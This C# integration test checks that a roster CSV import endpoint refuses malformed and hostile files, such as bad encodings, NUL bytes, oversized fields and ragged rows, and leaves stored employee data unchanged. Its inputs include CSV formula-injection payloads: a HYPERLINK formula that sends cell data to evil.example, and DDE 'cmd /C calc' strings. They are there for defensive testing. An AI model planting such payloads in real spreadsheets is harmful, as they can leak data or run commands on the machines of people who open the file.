using System.Net.Http.Headers;
using System.Text;
using Enterprise.Eval.Application.Abstractions;
using Enterprise.Eval.Application.Roster;
using Enterprise.Eval.Integration.Tests.Api;
using Enterprise.Eval.TestKit;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;

namespace Enterprise.Eval.Integration.Tests.Hostile;

/// <summary>
/// Generated malformed roster files posted to /api/roster over an already imported roster: each is refused with a
/// coded problem (or, when harmless, accepted), never a 500, and a refused file leaves every stored row as it was.
/// </summary>
public sealed class RosterHostileFiles
{
    private static readonly byte[] Sample = File.ReadAllBytes(RepositoryRoot.File("samples", "roster.csv"));

    [Fact]
    public async Task RosterImport_HostileFiles_AreRefusedWithACodeAndLeaveTheStoredRosterUnchanged()
    {
        await using var host = await ApiHost.StartAsync();
        var (enterpriseId, key) = await host.RegisterAsync("甲机械有限公司", "91350100M000100Y43");
        var client = host.Client(key);
        using (var first = await client.PostAsync("/api/roster", new ByteArrayContent(Sample))) first.EnsureSuccessStatusCode();
        var before = await SnapshotAsync(host, enterpriseId);
        Assert.Equal(200, before.Count);
        var failures = new List<string>();

        foreach (var (name, bytes, encoding) in Files(new Random(HostileBodies.Seed)))
        {
            var url = encoding is null ? "/api/roster" : $"/api/roster?encoding={encoding}";
            using var content = new ByteArrayContent(bytes);
            content.Headers.ContentType = new MediaTypeHeaderValue("text/csv");
            try
            {
                using var response = await client.PostAsync(url, content);
                await ProblemAssert.RefusedWithCodeAsync(response, name);
                var after = await SnapshotAsync(host, enterpriseId);
                if ((name.StartsWith("formula", StringComparison.Ordinal) || name.StartsWith("NUL", StringComparison.Ordinal)) && !ProblemAssert.IsRefusal(response.StatusCode))
                    failures.Add($"{name}: a formula or control character was accepted (HTTP {(int)response.StatusCode})");
                if (ProblemAssert.IsRefusal(response.StatusCode) && !before.SequenceEqual(after))
                    failures.Add($"{name}: refused but the stored roster changed");
                before = after;
            }
            catch (Exception e) when (e is not OutOfMemoryException)
            {
                failures.Add(e is Xunit.Sdk.XunitException ? e.Message : $"{name}: {e.GetType().Name} {e.Message}");
            }
        }

        Assert.True(failures.Count == 0, string.Join("\n", failures));
    }

    /// <summary>Every field of every stored employee, so "unchanged" means unchanged, not only "same count".</summary>
    private static async Task<List<string>> SnapshotAsync(ApiHost host, Guid enterpriseId)
    {
        await using var scope = host.Services.CreateAsyncScope();
        var db = scope.ServiceProvider.GetRequiredService<IEvalDbContext>();
        return (await db.Employees.AsNoTracking().Where(e => e.EnterpriseId == enterpriseId).ToListAsync())
            .Select(e => string.Join("|", e.EmployeeNumber, e.Name, e.IdNumber, e.Department, e.SkillLevel, e.Mobile, e.Email, e.TitleName))
            .Order(StringComparer.Ordinal).ToList();
    }

    internal static IEnumerable<(string Name, byte[] Bytes, string? Encoding)> Files(Random random)
    {
        var text = Encoding.UTF8.GetString(Sample).TrimStart('\uFEFF');
        var lines = text.Split('\n', StringSplitOptions.RemoveEmptyEntries);
        var header = lines[0];
        string Changed(int row, int column, string value)
        {
            var copy = (string[])lines.Clone();
            var fields = copy[row].Split(',');
            fields[column] = value;
            copy[row] = string.Join(',', fields);
            return string.Join('\n', copy);
        }

        yield return ("empty file", [], null);
        yield return ("only a BOM", [0xEF, 0xBB, 0xBF], null);
        yield return ("header only", Encoding.UTF8.GetBytes(header + "\n"), null);
        yield return ("header only, no newline", Encoding.UTF8.GetBytes(header), null);
        yield return ("NUL bytes", new byte[4096], null);
        yield return ("binary garbage", HostileBodies.Garbage(random, 64 * 1024), null);
        yield return ("binary garbage as utf-8", HostileBodies.Garbage(random, 4096), "utf-8");
        yield return ("unknown encoding", Sample, "ebcdic");
        yield return ("GB18030 bytes declared utf-8", TextFileDecoder.Gb18030.GetBytes(Changed(3, 5, "新部门")), "utf-8");
        yield return ("UTF-16 file", Encoding.Unicode.GetPreamble().Concat(Encoding.Unicode.GetBytes(Changed(3, 5, "新部门"))).ToArray(), null);
        yield return ("1 MB single line", Encoding.UTF8.GetBytes(new string('甲', 350_000)), null);
        yield return ("huge field", Encoding.UTF8.GetBytes(Changed(4, 5, new string('部', 1_000_000))), null);
        yield return ("unterminated quote", Encoding.UTF8.GetBytes(Changed(6, 5, "\"装配车间")), null);
        yield return ("BOM in the middle of a field", Encoding.UTF8.GetBytes(Changed(7, 0, "E0\uFEFF0007")), null);
        yield return ("BOM in the middle of the file", Encoding.UTF8.GetBytes(string.Join('\n', lines[..50]) + "\n\uFEFF" + string.Join('\n', lines[50..])), null);
        yield return ("NUL in a name", Encoding.UTF8.GetBytes(Changed(8, 1, "张\0三")), null);
        yield return ("formula cell =HYPERLINK", Encoding.UTF8.GetBytes(Changed(9, 1, "=HYPERLINK(\"http://evil.example/?\"&C2,\"点我\")")), null);
        yield return ("formula cell +cmd", Encoding.UTF8.GetBytes(Changed(10, 5, "+cmd|' /C calc'!A0")), null);
        yield return ("formula cell @SUM", Encoding.UTF8.GetBytes(Changed(11, 5, "@SUM(1+1)*cmd|' /C calc'!A0")), null);
        yield return ("formula cell -2+3", Encoding.UTF8.GetBytes(Changed(12, 5, "-2+3+cmd|' /C calc'!A0")), null);
        yield return ("formula cell after a tab", Encoding.UTF8.GetBytes(Changed(13, 5, "\t=1+1")), null);
        yield return ("CR only line ends", Encoding.UTF8.GetBytes(string.Join('\r', lines)), null);
        for (var i = 0; i < 12; i++)
        {
            var copy = (string[])lines.Clone();
            var row = 1 + random.Next(copy.Length - 1);
            var fields = copy[row].Split(',').ToList();
            if (random.Next(2) == 0) fields.RemoveAt(random.Next(fields.Count));
            else fields.Insert(random.Next(fields.Count), "多余");
            copy[row] = string.Join(',', fields);
            yield return ($"ragged row {row} #{i}", Encoding.UTF8.GetBytes(string.Join('\n', copy)), null);
        }
        for (var i = 0; i < 12; i++)
        {
            var row = 1 + random.Next(lines.Length - 1);
            var column = random.Next(19);
            string[] junk = ["\"", "\"\"\"", "1e999", "2026-02-30", "-", new string('9', 40), "\u202E", "\uD800", "null", "   ", "🙂🙂"];
            yield return ($"junk in row {row} column {column} #{i}", Encoding.UTF8.GetBytes(Changed(row, column, junk[random.Next(junk.Length)])), null);
        }
    }
}
